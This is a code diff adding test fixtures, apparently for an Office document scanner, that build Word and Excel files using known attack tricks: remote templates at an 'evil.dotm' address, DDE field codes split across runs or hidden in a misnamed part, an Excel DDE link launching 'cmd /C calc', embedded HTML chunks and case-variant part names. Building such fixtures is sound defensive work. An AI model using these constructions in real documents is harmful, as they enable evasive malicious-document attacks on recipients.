@@ -10,6 +10,9 @@ from openpyxl import Workbook
 MAIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
 TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+STRICT_TEMPLATE = "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"
+IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+CHUNK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"
 WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
 BODY = '<w:document xmlns:w="urn:w"><w:body/></w:document>'
@@ -76,6 +79,59 @@ def with_program_inside() -> bytes:
 
 def with_template_from_elsewhere() -> bytes:
     return word_with("word/_rels/settings.xml.rels", relation(TEMPLATE, "https://example.org/evil.dotm", "External"))
+
+
+def with_template_at(target: str, kind: str = TEMPLATE, mode: str = "External") -> bytes:
+    return word_with("word/_rels/settings.xml.rels", relation(kind, target, mode))
+
+
+def with_template_in_capitals() -> bytes:
+    """Office reads names of parts in any case."""
+    return word_with("word/_rels/settings.xml.RELS", relation(TEMPLATE, "https://example.org/evil.dotm", "External"))
+
+
+def with_picture_at(target: str) -> bytes:
+    return word_with("word/_rels/document.xml.rels", relation(IMAGE, target, "External"))
+
+
+def with_a_page_inside() -> bytes:
+    return word_with("word/_rels/document.xml.rels", relation(CHUNK, "page.html"))
+
+
+def with_body(body: str, name: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
+    text = (
+        f'<?xml version="1.0" encoding="{encoding}"?><w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
+    )
+    return word_with(name, text.encode(encoding))
+
+
+def with_field(*pieces: str) -> bytes:
+    """A field whose code is cut into pieces, each in a run of its own; a nested field stands between them."""
+    nested = '<w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/>'
+    code = nested.join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
+    return with_body(f'<w:fldChar w:fldCharType="begin"/>{code}<w:fldChar w:fldCharType="end"/>')
+
+
+def with_simple_field(code: str) -> bytes:
+    return with_body(f'<w:fldSimple w:instr="{code}"/>')
+
+
+def with_field_in_a_part_of_another_name() -> bytes:
+    """A part that the file declares to be the document, under an ending that says nothing."""
+    declared = types().replace("/word/document.xml", "/word/document.dat")
+    field = "<w:d xmlns:w='urn:w'><w:instrText>DDE excel x</w:instrText></w:d>"
+    return zipped(parts() | {"[Content_Types].xml": declared, "word/document.dat": field})
+
+
+def with_link_to_a_program() -> bytes:
+    link = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
+    with zipfile.ZipFile(io.BytesIO(excel())) as sound:
+        members: dict[str, str | bytes] = {name: sound.read(name) for name in sound.namelist()}
+    return zipped(members | {"xl/externalLinks/externalLink1.xml": link})
+
+
+def with_two_parts_of_one_name() -> bytes:
+    return word_with("WORD/document.xml", BODY)
 
 
 def with_a_link_to_follow() -> bytes:
